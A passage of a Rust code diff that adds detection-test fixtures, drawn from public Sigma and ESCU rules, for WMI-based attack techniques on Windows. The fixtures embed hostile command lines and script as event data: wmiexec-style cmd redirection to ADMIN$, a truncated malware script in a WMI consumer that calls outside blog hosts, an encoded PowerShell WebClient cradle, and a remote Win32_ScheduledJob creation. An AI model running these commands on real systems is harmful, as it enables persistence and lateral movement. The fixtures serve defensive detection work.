+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1698765432.5812 2>&1", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x7a41c3"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /c whoami", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x7a41c3"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("C9"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1637152722.6573288 2>&1", "ParentImage" = "C:\\Windows\\System32\\mmc.exe", "ParentCommandLine" = "C:\\Windows\\system32\\mmc.exe -Embedding", "User" = "CORP\\alice", "LogonId" = "0x7a41c3"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c dir \\\\FS01\\backup$ 2>&1", "ParentImage" = "C:\\Windows\\explorer.exe", "ParentCommandLine" = "C:\\Windows\\Explorer.EXE", "User" = "CORP\\alice"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_TOKEN_ACCESS: Rule = Rule {
@@ -456,6 +672,15 @@ const WMI_TOKEN_ACCESS: Rule = Rule {
         "TargetImage" = "C:\\x\\a.exe",
         "GrantedAccess" = "0x1000"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C13"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "10", "SourceImage" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "SourceProcessId" = "3120", "SourceProcessGUID" = "{8a1f3c2e-5b6d-6571-2a01-000000001b00}", "TargetImage" = "C:\\Windows\\SysWOW64\\wermgr.exe", "TargetProcessId" = "6644", "TargetProcessGUID" = "{8a1f3c2e-5b70-6571-4c01-000000001b00}", "GrantedAccess" = "0x1478", "CallTrace" = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\system32\\wbem\\cimwin32.dll+4a3f1"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "10", "SourceImage" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "SourceProcessId" = "3120", "TargetImage" = "C:\\Windows\\SysWOW64\\wermgr.exe", "TargetProcessId" = "6644", "GrantedAccess" = "0x1000"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_DLL_HIJACK: Rule = Rule {
@@ -522,6 +747,29 @@ const WMI_DLL_HIJACK: Rule = Rule {
             "ImageLoaded" = "C:\\Windows\\System32\\wbemcomn.dll"
         ),
     ],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("f6c68d5f"),
+            built: Built::Definition,
+            event: ex!(SECURITY, "5145", "SubjectUserSid" = "S-1-5-21-1111111111-2222222222-3333333333-1104", "SubjectUserName" = "alice", "SubjectDomainName" = "CORP", "SubjectLogonId" = "0x5b1c2d", "ObjectType" = "File", "IpAddress" = "10.0.1.21", "IpPort" = "50422", "ShareName" = "\\\\*\\C$", "ShareLocalPath" = "\\??\\C:\\\\", "RelativeTargetName" = "Windows\\System32\\wbem\\wbemcomn.dll", "AccessMask" = "0x2", "AccessList" = "%%4417"),
+            targets: &[],
+            contrast: Some((ex!(SECURITY, "5145", "SubjectUserSid" = "S-1-5-21-1111111111-2222222222-3333333333-2105", "SubjectUserName" = "MGMT01$", "SubjectDomainName" = "CORP", "SubjectLogonId" = "0x6c2d3e", "ObjectType" = "File", "IpAddress" = "10.0.1.50", "IpPort" = "50431", "ShareName" = "\\\\*\\C$", "ShareLocalPath" = "\\??\\C:\\\\", "RelativeTargetName" = "Windows\\System32\\wbem\\wbemcomn.dll", "AccessMask" = "0x2", "AccessList" = "%%4417"), Contrast::Broader("a machine account writing wbemcomn.dll into the WMI folder plants it as well"))),
+        },
+        FromPublic {
+            origin: Origin::Sigma("614a7e17"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "11", "ProcessId" = "4", "Image" = "System", "TargetFilename" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll", "User" = "NT AUTHORITY\\SYSTEM"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "11", "ProcessId" = "5120", "Image" = "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.17763.5020_none_1b5b9a0c8d7e4a2f\\TiWorker.exe", "TargetFilename" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Broader("any process writing wbemcomn.dll into the WMI folder plants it; Windows keeps it in System32"))),
+        },
+        FromPublic {
+            origin: Origin::Sigma("7707a579"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemcomn.dll"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbemcomn.dll"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_SUBSCRIPTION_PERMANENT_CONSUMER: Rule = Rule {
@@ -552,6 +800,43 @@ const WMI_SUBSCRIPTION_PERMANENT_CONSUMER: Rule = Rule {
         "5861",
         "CONSUMER" = "NTEventLogEventConsumer=\"SCM Event Log Consumer\""
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("0b7889b4"),
+            built: Built::Regression { path: "regression_data/rules/windows/builtin/wmi/win_wmi_persistence/0b7889b4-5577-4521-a60a-3376ee7f9f7b.json", commit: "79e4dce5fec0fbedf1067d79454280911bab2506" },
+            event: ex!(WMI, "5861", "Namespace" = "//./root/subscription", "ESS" = "AtomicRedTeam-WMIPersistence-Example", "CONSUMER" = "CommandLineEventConsumer=\"AtomicRedTeam-WMIPersistence-Example\"", "PossibleCause" = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\CimV2\";\n\tName = \"AtomicRedTeam-WMIPersistence-Example\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Windows\\\\System32\\\\notepad.exe\";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"AtomicRedTeam-WMIPersistence-Example\";\n};\n"),
+            targets: &[],
+            contrast: Some((ex!(WMI, "5859", "NamespaceName" = "//./root/CIMV2", "Query" = "select * from MSFT_SCMEventLogEvent", "User" = "S-1-5-32-544", "Processid" = "3076", "Provider" = "SCM Event Provider", "queryid" = "0", "PossibleCause" = "Permanent"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("83844185"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "CORP\\alice", "Name" = "\"Updater\"", "Type" = "Script", "Destination" = "\"var b64 = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAAA='; var s = new ActiveXObject('ADODB.Stream'); s.Type = 1; s.Open();\""),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "CORP\\alice", "Name" = "\"Updater\"", "Type" = "Script", "Destination" = "\"var fso = new ActiveXObject('Scripting.FileSystemObject'); fso.CreateTextFile('C:\\\\ProgramData\\\\heartbeat.txt', true).WriteLine(new Date());\""), Contrast::Broader("every command-line or script consumer runs code; the payload need not be encoded"))),
+        },
+        FromPublic {
+            origin: Origin::Sigma("fe21810c"),
+            built: Built::Regression { path: "regression_data/rules/windows/wmi_event/sysmon_wmi_susp_scripting/fe21810c-2a8c-478f-8dd3-5a287fb2a0e0.json", commit: "e3fde8d654d2940ed88aa7d1b5f1f5f1d7fdde86" },
+            event: ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "UtcTime" = "2019-04-03 18:11:54.178", "Operation" = "Modified", "User" = "PC04\\IEUser", "Name" = "\"ProbeScriptFint\"", "Type" = "Script", "Destination" = "\"var sXmlUrl=\\\"http://kumardeep.sosblogs.com/The-first-blog-b1/RSS-b1-rss2-posts.htm;http://blogs.rediff.com/anilchopra/feed/;http://www.blogster.com/kapoorsunil09/profile/rss\\\";var sOwner='XDD';var MAIN=function(){$=this;$.key='W';$.sFeedUrl=sXmlUrl;$.sOwner=sOwner;$.sXmlUrl='';$.oHttp=null;$.oShell=null;$.oStream=null;$.sHostName=null;$.sOSType=null;$.sMacAddress=null;$.sURLParam=null;$.version='2.0.0';$.runtime=5000;$.oWMI=null;$._x=ActiveXObject;};MAIN.prototype={InitObjects:function(){$.oWMI=GetObject('winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2');$.oShell=new $._x('WScript.Shell');$.oStream=new $._x('ADODB.Stream');$.GetOSInfo();$.GetMacAddress();$.GenerateUrlParam();}, /* ... truncated ... */ Fire:function(){$.InitObjects();try{$.MainLoop();}catch(e){}$.CleanObjects();}};new MAIN().Fire();\""),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "PC04\\IEUser", "Name" = "\"Inventory\"", "Type" = "Command Line", "Destination" = "\"C:\\Windows\\System32\\cscript.exe\" //nologo C:\\ProgramData\\Vendor\\inventory.vbs"), Contrast::Broader("every command-line or script consumer runs code; the payload need not be a download cradle"))),
+        },
+        FromPublic {
+            origin: Origin::Escu("D1"),
+            built: Built::Definition,
+            event: ex!(WMI, "5861", "Namespace" = "//./root/subscription", "ESS" = "Updater Filter", "CONSUMER" = "CommandLineEventConsumer=\"Updater Consumer\"", "PossibleCause" = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"Updater Filter\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Users\\\\Public\\\\upd.exe\";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"Updater Consumer\";\n};\n", "Message" = "Namespace = //./root/subscription; Eventfilter = Updater Filter (refer to its activate eventid:5859); Consumer = CommandLineEventConsumer=\"Updater Consumer\"; PossibleCause = Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"Updater Filter\";\n\tQuery = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Users\\\\Public\\\\upd.exe\";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\n\tName = \"Updater Consumer\";\n};\n"),
+            targets: &[],
+            contrast: Some((ex!(WMI, "5861", "Namespace" = "//./root/subscription", "ESS" = "SCM Event Log Filter", "CONSUMER" = "NTEventLogEventConsumer=\"SCM Event Log Consumer\"", "PossibleCause" = "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\tQuery = \"select * from MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n\tCategory = 0;\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventType = 1;\n\tEventID = 0;\n\tName = \"SCM Event Log Consumer\";\n\tNumberOfInsertionStrings = 0;\n\tSourceName = \"Service Control Manager\";\n\tUNCServerName = NULL;\n};\n", "Message" = "Namespace = //./root/subscription; Eventfilter = SCM Event Log Filter (refer to its activate eventid:5859); Consumer = NTEventLogEventConsumer=\"SCM Event Log Consumer\"; PossibleCause = Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\tQuery = \"select * from MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n};\nPerm. Consumer: \ninstance of NTEventLogEventConsumer\n{\n\tCategory = 0;\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};\n\tEventType = 1;\n\tEventID = 0;\n\tName = \"SCM Event Log Consumer\";\n\tNumberOfInsertionStrings = 0;\n\tSourceName = \"Service Control Manager\";\n\tUNCServerName = NULL;\n};\n"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("D3"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "20", "EventID" = "20", "EventType" = "WmiConsumerEvent", "Operation" = "Created", "User" = "CORP\\alice", "Name" = "\"AtomicRedTeam-WMIPersistence-Example\"", "Type" = "Command Line", "Destination" = "\"C:\\Windows\\System32\\notepad.exe\""),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "21", "EventID" = "21", "EventType" = "WmiBindingEvent", "Operation" = "Created", "User" = "CORP\\alice", "Consumer" = "CommandLineEventConsumer.Name=\"AtomicRedTeam-WMIPersistence-Example\"", "Filter" = "__EventFilter.Name=\"AtomicRedTeam-WMIPersistence-Example\""), Contrast::Filtered)),
+        },
+    ],
 };
 
 fn m_subscription_consumer(c: &Ctx<'_>) -> Option<Hit> {
@@ -609,6 +894,22 @@ const WMI_SUBSCRIPTION_PERMANENT_BINDING: Rule = Rule {
             "PossibleCause" = "Permanent",
             "Query" = "select * from MSFT_SCMEventLogEvent"
         ),
+    ],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("0f06a3a5"),
+            built: Built::Regression { path: "regression_data/rules/windows/wmi_event/sysmon_wmi_event_subscription/0f06a3a5-6a09-413f-8743-e6cf35561297.json", commit: "176d182dc8e4e94ef447b8706850eb5b13dc2dd2" },
+            event: ex!(SYSMON, "19", "RuleName" = "technique_id=T1047,technique_name=Windows Management Instrumentation", "EventType" = "WmiFilterEvent", "UtcTime" = "2026-08-30 15:07:43.355", "Operation" = "Created", "User" = "SigmaCatchVm\\frack113", "EventNamespace" = "\"root\\\\CimV2\"", "Name" = "\"AtomicRedTeam-WMIPersistence-CommandLineEventConsumer-Example\"", "Query" = "\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325\""),
+            targets: &[],
+            contrast: Some((ex!(WMI, "5860", "NamespaceName" = "//./root/CIMV2", "Query" = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'", "User" = "SigmaCatchVm\\frack113", "Processid" = "4412", "MachineName" = "SigmaCatchVm", "PossibleCause" = "Temporary"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("D2"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "21", "EventType" = "WmiBindingEvent", "Operation" = "Created", "User" = "CORP\\alice", "Consumer" = "CommandLineEventConsumer.Name=\"AtomicRedTeam-WMIPersistence-Example\"", "Filter" = "__EventFilter.Name=\"AtomicRedTeam-WMIPersistence-Example\""),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "19", "EventType" = "WmiFilterEvent", "Operation" = "Created", "User" = "CORP\\alice", "EventNamespace" = "\"root\\\\CimV2\"", "Name" = "\"AtomicRedTeam-WMIPersistence-Example\"", "Query" = "\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325\""), Contrast::Broader("a permanent filter (Sysmon 19) is half of a subscription; ESCU reads only the binding (21)"))),
+        },
     ],
 };
 
@@ -668,6 +969,15 @@ const WMI_SUBSCRIPTION_TEMPORARY: Rule = Rule {
         "5860",
         "Query" = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("D4"),
+            built: Built::Definition,
+            event: ex!(WMI, "5860", "NamespaceName" = "//./root/CIMV2", "Query" = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'", "User" = "CORP\\alice", "Processid" = "4321", "MachineName" = "WKS01", "PossibleCause" = "Temporary", "Message" = "Namespace = //./root/CIMV2; NotificationQuery = SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'; UserName = CORP\\alice; ClientProcessID = 4321, ClientMachine = WKS01; PossibleCause = Temporary"),
+            targets: &[],
+            contrast: Some((ex!(WMI, "5860", "NamespaceName" = "//./root/CIMV2", "Query" = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'", "User" = "NT AUTHORITY\\SYSTEM", "Processid" = "2216", "MachineName" = "SRV03", "PossibleCause" = "Temporary", "Message" = "Namespace = //./root/CIMV2; NotificationQuery = SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'; UserName = NT AUTHORITY\\SYSTEM; ClientProcessID = 2216, ClientMachine = SRV03; PossibleCause = Temporary"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_ACTIVITY_CONTEXT: Rule = Rule {
@@ -694,6 +1004,7 @@ const WMI_ACTIVITY_CONTEXT: Rule = Rule {
         pos!(ex!(WMI, "5858", "ClientMachine" = "WKS01", "Operation" = "ExecQuery"), detail: "client WKS01; operation ExecQuery"),
     ],
     negatives: &[ex!(WMI, "5860", "Query" = "x")],
+    public: &[],
 };
 
 fn m_wmi_context(c: &Ctx<'_>) -> Option<Hit> {
@@ -800,6 +1111,43 @@ const WMI_CONSUMER_EXEC: Rule = Rule {
             "ImageLoaded" = "C:\\Windows\\System32\\wbemcomn.dll"
         ),
     ],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("ec1d5e28"),
+            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmi_persistence_script_event_consumer/ec1d5e28-8f3b-4188-a6f8-6e8df81dc28e.json", commit: "f833216056b130164bd3d7bd753e52a770636443" },
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "IntegrityLevel" = "System", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("f6d1dd2f"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "ParentImage" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\conhost.exe", "OriginalFileName" = "CONHOST.EXE", "CommandLine" = "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "ParentImage" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding"), Contrast::Broader("any child of the script consumer host is consumer execution"))),
+        },
+        FromPublic {
+            origin: Origin::Escu("D6"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "OriginalFileName" = "SCRCONS.EXE", "CommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "OriginalFileName" = "Wmiprvse.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "User" = "NT AUTHORITY\\NETWORK SERVICE", "LogonId" = "0x3e4"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("b439f47d"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ImageLoaded" = "C:\\Windows\\System32\\wshom.ocx"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wscript.exe", "ImageLoaded" = "C:\\Windows\\System32\\wshom.ocx"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("05936ce2"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemcons.dll"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemprox.dll"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_MOF_COMPILE: Rule = Rule {
@@ -832,6 +1180,9 @@ const WMI_MOF_COMPILE: Rule = Rule {
                 F::CommandLine,
                 Test::Contains(&["\\users\\", "\\temp\\", "\\appdata\\", "\\programdata\\"]),
             )],
+            // WMI registering a provider compiles its MOF from the Windows
+            // temp folder (Sigma 1dd05363's filter).
+            fields_not: &[(F::ParentImage, Test::FileIs(&["wmiprvse.exe"]))],
             yields: Yield::ProcessThreats,
             ..Cond::ANY
         },
@@ -846,6 +1197,22 @@ const WMI_MOF_COMPILE: Rule = Rule {
         "ParentImage" = "C:\\Windows\\System32\\msiexec.exe",
         "CommandLine" = "mofcomp C:\\Windows\\System32\\wbem\\x.mof"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("1dd05363"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "mofcomp.exe C:\\Users\\Public\\evil.mof", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\""),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\mofcomp.exe C:\\Windows\\TEMP\\tmp5A3F.mof", "User" = "NT AUTHORITY\\SYSTEM", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("D5"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "\"C:\\Windows\\system32\\wbem\\mofcomp.exe\" C:\\Users\\alice\\AppData\\Local\\Temp\\upd.mof", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentCommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", "User" = "CORP\\alice"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "mofcomp.exe \"C:\\Program Files\\Vendor\\Agent\\agent.mof\"", "ParentImage" = "C:\\Windows\\System32\\msiexec.exe", "ParentCommandLine" = "C:\\Windows\\system32\\msiexec.exe /V", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_SCHEDULED_JOB: Rule = Rule {
@@ -864,19 +1231,28 @@ const WMI_SCHEDULED_JOB: Rule = Rule {
     when: Match::When(Cond {
         kinds: &[Kind::ScriptBlock, Kind::ProcessCreate],
         text_any: &["win32_scheduledjob"],
+        yields: Yield::Tool,
         ..Cond::ANY
     }),
-    positives: &[
-        // FIXME(issue11): the job is created on `\\srv03\root\cimv2`, but m_scheduled_job
-        // returns an empty Hit. Expected targets ["srv03"].
-        pos!(ex!(
+    positives: &[pos!(
+        ex!(
             PSOP,
             "4104",
             "ScriptBlockText" =
                 "([wmiclass]'\\\\srv03\\root\\cimv2:Win32_ScheduledJob').Create('calc',...)"
-        )),
-    ],
+        ),
+        targets: ["srv03"]
+    )],
     negatives: &[ex!(PSOP, "4104", "ScriptBlockText" = "Get-ScheduledTask")],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C14"),
+            built: Built::Definition,
+            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -ComputerName SRV03 -Class Win32_ScheduledJob -Name Create -ArgumentList 'cmd.exe /c C:\\Users\\Public\\a.bat', '********235900.000000+000'", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"),
+            targets: &["SRV03"],
+            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Register-ScheduledTask -TaskName Updater -Action (New-ScheduledTaskAction -Execute 'cmd.exe') -CimSession $s", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_SCHEDULED_JOB_ENABLED: Rule = Rule {
@@ -908,6 +1284,15 @@ const WMI_SCHEDULED_JOB_ENABLED: Rule = Rule {
         ex!(SYSMON, "13", "EventType" = "SetValue", "Image" = "C:\\Windows\\system32\\svchost.exe", "TargetObject" = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\x\\Id", "Details" = "{1}"),
         // A file event naming the key is not a registry write.
